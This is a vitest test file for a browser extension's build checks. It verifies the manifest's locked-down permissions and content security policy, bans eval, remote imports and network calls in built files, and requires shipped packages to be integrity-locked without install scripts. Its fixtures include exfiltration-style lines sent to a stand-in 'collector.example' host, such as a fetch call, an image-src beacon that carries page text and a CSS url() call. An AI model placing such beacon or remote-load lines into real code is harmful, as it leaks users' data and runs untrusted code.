import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { FETCHES, faultsOfFiles, faultsOfLock, faultsOfManifest } from '../../scripts/lib/manifest-faults.mjs';

const read = (name: string) => JSON.parse(readFileSync(new URL(`../../${name}`, import.meta.url), 'utf8'));

const MANIFEST = { ...read('manifest.json'), host_permissions: [] };

describe('a built manifest', () => {
  it('is as the project says it', () => {
    expect(faultsOfManifest(MANIFEST)).toEqual([]);
  });

  it.each([
    ['web_accessible_resources', { web_accessible_resources: [] }],
    ['externally_connectable', { externally_connectable: { ids: [] } }],
    ['sandbox', { sandbox: { pages: [] } }],
    ['permissions', { permissions: ['storage', 'tabs'] }],
    ['content_security_policy', { content_security_policy: {} }],
    [
      'content_security_policy',
      { content_security_policy: { extension_pages: "default-src 'none'; script-src 'self'" } },
    ],
  ])('may not have another %s', (name, change) => {
    const faults = faultsOfManifest({ ...MANIFEST, ...change });
    expect(faults.some((fault: string) => fault.startsWith(name))).toBe(true);
  });
});

describe('built files', () => {
  const folder = mkdtempSync(path.join(os.tmpdir(), 'sidelight-files-'));
  const faultsOf = (name: string, text: string): readonly string[] => {
    mkdirSync(folder, { recursive: true });
    writeFileSync(path.join(folder, name), text);
    return faultsOfFiles(folder);
  };
  afterEach(() => rmSync(folder, { recursive: true, force: true }));

  it.each([
    ['a.js', 'eval("1")'],
    ['a.js', 'new Function("return 1")'],
    ['a.js', 'Function("return this")()'],
    ['a.js', 'element.innerHTML=text'],
    ['a.js', 'element.outerHTML = text'],
    ['a.js', 'import("https://cdn.example/x.js")'],
    ['a.js', 'import(`//cdn.example/x.js`)'],
    ['a.js', 'import a from"https://cdn.example/x.js"'],
    ['a.js', 'fetch(file)'],
    ['service-worker-loader.js', 'fetch("https://collector.example/")'],
    ['a.js', 'image.src="https://collector.example/?"+text'],
    ['a.js', 'importScripts(file)'],
    ['a.js', 'new XMLHttpRequest'],
    ['a.js', 'navigator.sendBeacon(url)'],
    ['a.html', '<script>1</script>'],
    ['a.html', '<script src="https://cdn.example/x.js"></script>'],
    ['a.html', '<p onclick="go()">'],
    ['a.css', 'p { background: url(https://collector.example/p.png) }'],
    ['a.css', '@import "https://cdn.example/a.css";'],
  ])('%s may not say %s', (name, text) => {
    expect(faultsOf(name, text)).not.toEqual([]);
  });

  it.each([
    ['main.ts-x.js', 'fetch(browser.runtime.getURL("dataset/explainers.json"))'],
    ['a.js', 'const source = "https://www.example.org/law"; if (a.innerHTML === b) import("./b.js")'],
    ['a.html', '<script type="module" src="/main.js"></script><link rel="stylesheet" href="/main.css">'],
    ['a.css', 'p { background: url(data:image/svg+xml,x) }'],
  ])('%s may say %s', (name, text) => {
    expect(faultsOf(name, text)).toEqual([]);
  });
});

describe('the packages that are shipped', () => {
  it('run nothing when they are installed, and are locked to their bytes', () => {
    expect(faultsOfLock(read('package-lock.json'))).toEqual([]);
  });

  it('would be refused, where the same is let pass in a tool', () => {
    const packages = {
      '': {},
      a: { integrity: 'x', hasInstallScript: true },
      b: {},
      c: { dev: true, hasInstallScript: true },
    };
    expect(faultsOfLock({ packages })).toHaveLength(2);
  });
});

describe('a request', () => {
  it.each([
    'fetch("/a")',
    'await fetch(e)',
    'self.fetch(t,n)',
    'if(fetch(e)){}',
    'fetch(function(){return 1})',
    'fetch()',
  ])('is seen in %s', (code) => expect(code).toMatch(FETCHES));

  it.each(['class M{fetch(e,t){return 1}}', 'prefetch(e)', 'fetched(e)'])('is not in %s', (code) =>
    expect(code).not.toMatch(FETCHES),
  );
});
